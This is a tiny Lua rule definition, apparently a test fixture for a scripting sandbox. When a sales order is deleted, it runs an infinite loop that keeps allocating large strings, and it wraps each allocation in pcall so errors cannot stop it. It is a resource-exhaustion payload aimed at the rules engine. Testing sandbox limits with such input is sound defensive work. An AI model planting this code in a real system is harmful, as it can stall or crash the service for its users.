rule{ on = "sales.order.after_delete", name = "loop", check = function()
    local t = {}
    while true do
        pcall(function() t[#t + 1] = ("x"):rep(90000) .. #t end)
    end
end }
